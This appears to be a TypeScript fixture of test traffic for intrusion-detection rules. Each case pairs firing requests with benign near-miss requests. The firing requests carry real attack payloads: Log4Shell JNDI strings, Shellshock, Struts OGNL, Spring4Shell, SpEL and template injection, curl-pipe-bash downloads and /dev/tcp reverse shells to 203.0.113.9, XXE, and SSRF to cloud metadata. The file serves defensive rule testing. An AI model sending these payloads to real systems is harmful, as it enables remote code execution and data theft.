// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks are written with ${, in plain strings
import { type Case, get, post } from '../traffic.js'

/** Traffic for rce.rules. */
export const rce: readonly Case[] = [
  {
    sid: 9002001,
    fire: [get('/?x=${jndi:ldap://203.0.113.9/a}'), get('/?x=%24%7Bjndi:rmi://203.0.113.9/a%7D')],
    nearMiss: get('/?x={jndi:ldap://203.0.113.9/a}'),
  },
  {
    sid: 9002002,
    fire: get('/', { 'User-Agent': '${jndi:ldap://203.0.113.9/a}' }),
    nearMiss: get('/', { 'User-Agent': 'jndi:ldap client' }),
  },
  {
    sid: 9002003,
    fire: post('/login', 'user=${JNDI:dns://203.0.113.9/a}'),
    nearMiss: post('/login', 'user=$jndi'),
  },
  {
    sid: 9002004,
    fire: get('/', { 'X-Api-Version': '${${lower:j}ndi:ldap://203.0.113.9/a}' }),
    nearMiss: get('/', { 'X-Template': '${lower:name}' }),
  },
  {
    sid: 9002005,
    fire: get('/', { 'User-Agent': '${${::-j}${::-n}di:rmi://203.0.113.9/a}' }),
    nearMiss: get('/', { 'X-Shell': '${::-default}' }),
  },
  {
    sid: 9002006,
    fire: get('/', { Referer: '${${env:BARFOO:-j}ndi:ldap://203.0.113.9/a}' }),
    nearMiss: get('/', { 'X-Conf': '${env:HOME:-/root}' }),
  },
  {
    sid: 9002007,
    fire: get('/cgi-bin/status', { 'User-Agent': '() { :;}; /bin/ping -c 1 203.0.113.9' }),
    nearMiss: get('/cgi-bin/status', { 'X-Code': 'f() { return }' }),
  },
  {
    sid: 9002008,
    fire: get('/index.action', {
      'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    }),
    nearMiss: get('/index.action', { Referer: 'https://www.example.com/api/ognl.OgnlContext.html' }),
  },
  {
    sid: 9002009,
    fire: get(
      '/struts2-showcase/%24%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29%7D/actionChain1.action',
    ),
    nearMiss: get('/api/ognl.OgnlContext.html'),
  },
  {
    sid: 9002010,
    fire: get('/x.action?a=%24%7B%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%7D'),
    nearMiss: get('/docs?page=allowStaticMethodAccess'),
  },
  {
    sid: 9002011,
    fire: get('/index.action?redirect:%24%7B%23a%3d1%7D'),
    nearMiss: get('/index.action?redirect:/home'),
  },
  {
    sid: 9002012,
    fire: get('/index.action?redirectAction:%25%7B3*4%7D'),
    nearMiss: get('/index.action?action:save'),
  },
  {
    sid: 9002013,
    fire: post(
      '/upload.action',
      '--b\r\nContent-Disposition: form-data; name="top.uploadFileName"\r\n\r\n../../webapps/ROOT/a.jsp\r\n--b--',
      { 'Content-Type': 'multipart/form-data; boundary=b' },
    ),
    nearMiss: post(
      '/upload.action',
      '--b\r\nContent-Disposition: form-data; name="uploadFileName"\r\n\r\nreport.pdf\r\n--b--',
      { 'Content-Type': 'multipart/form-data; boundary=b' },
    ),
  },
  {
    sid: 9002014,
    fire: get('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
    nearMiss: get('/?class.module=classLoader'),
  },
  {
    sid: 9002015,
    fire: post('/greeting', 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
    nearMiss: post('/greeting', 'class.module=1'),
  },
  {
    sid: 9002016,
    fire: post('/functionRouter', 'test', {
      'spring.cloud.function.routing-expression': 'T(java.lang.Runtime).getRuntime().exec("id")',
    }),
    nearMiss: post('/functionRouter', 'test', { 'spring.cloud.function.definition': 'uppercase' }),
  },
  {
    sid: 9002017,
    fire: post(
      '/actuator/gateway/routes/hack',
      '{"filters":[{"name":"AddResponseHeader","args":{"value":"#{1+1}"}}]}',
    ),
    nearMiss: post('/actuator/gateway/routes/shop', '{"filters":[],"uri":"http://shop"}'),
  },
  {
    sid: 9002018,
    fire: get('/?name=%23%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D'),
    nearMiss: get('/?type=List(java.lang.String)'),
  },
  {
    sid: 9002019,
    fire: post('/users', 'username[#this.getClass()]=x&y=T(java.lang.Runtime).getRuntime()'),
    nearMiss: post('/users', 'signature=f(java.lang.Integer)'),
  },
  {
    sid: 9002020,
    fire: post('/render', '<#assign ex="freemarker.template.utility.Execute"?new()>'),
    nearMiss: post('/render', '<#assign ex="freemarker.template.utility">'),
  },
  { sid: 9002021, fire: get('/hello?name=%7B%7B7*7%7D%7D'), nearMiss: get('/hello?name=%7B%7Bname%7D%7D') },
  {
    sid: 9002022,
    fire: get('/?n=%7B%7B%27%27.__class__.__mro__[1].__subclasses__()%7D%7D'),
    nearMiss: get('/docs/object.__class__.html'),
  },
  { sid: 9002023, fire: get('/?__proto__[isAdmin]=true'), nearMiss: get('/wiki/__proto__') },
  {
    sid: 9002024,
    fire: get('/ping?host=127.0.0.1;cat%20/etc/passwd'),
    nearMiss: get('/docs/linux/cat+and+etc+passwd'),
    also: [9005003],
  },
  {
    sid: 9002025,
    fire: get('/ping?host=1;wget+http://203.0.113.9/x'),
    nearMiss: get('/search?q=how+to+use+wget+http+proxy'),
  },
  {
    sid: 9002026,
    fire: get('/ping?host=$(curl+-s+http://203.0.113.9/x.sh|bash)'),
    nearMiss: get('/search?q=curl+bash'),
  },
  {
    sid: 9002027,
    fire: get('/ping?host=1%26%26nslookup+abc.example.net'),
    nearMiss: get('/search?q=nslookup+manual'),
  },
  { sid: 9002028, fire: get('/cgi?cmd=ls$%7BIFS%7D-la'), nearMiss: get('/wiki/IFS') },
  {
    sid: 9002029,
    fire: post('/diag', 'ip=1;ls${IFS}-la'),
    nearMiss: post('/diag', 'text=IFS is a variable'),
  },
  {
    sid: 9002030,
    fire: get('/?c=bash+-i+%3E%26+/dev/tcp/203.0.113.9/4444'),
    nearMiss: get('/docs/dev/tcp/options'),
  },
  {
    sid: 9002031,
    fire: post('/run', 'bash -c "exec 5<>/dev/tcp/203.0.113.9/4444"'),
    nearMiss: post('/run', 'see /dev/tcp/ in the manual'),
  },
  {
    sid: 9002032,
    fire: get('/a.asp?c=powershell+-nop+-enc+SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0'),
    nearMiss: get('/search?q=powershell+-encodedcommand+example'),
  },
  {
    sid: 9002033,
    fire: post(
      '/api',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
    ),
    nearMiss: post('/api', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY copy "(c)">]><r>&copy;</r>'),
  },
  {
    sid: 9002034,
    fire: get('/fetch?url=http://169.254.169.254/latest/meta-data/'),
    nearMiss: get('/fetch?url=http://169.254.1.254/'),
  },
  {
    sid: 9002035,
    fire: post('/hook', '{"url":"http://169.254.169.254/latest/api/token"}'),
    nearMiss: post('/hook', '{"url":"http://169.254.16.254/"}'),
  },
  {
    sid: 9002036,
    fire: get('/proxy?u=gopher://127.0.0.1:6379/_INFO'),
    nearMiss: get('/history/gopher:/protocol'),
  },
  {
    sid: 9002037,
    fire: post(
      '/avatar',
      'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://example.com/a.jpg"|id ")\'\npop graphic-context',
    ),
    nearMiss: post('/avatar', "push graphic-context\nviewbox 0 0 640 480\nfill 'red'\npop graphic-context"),
  },
]
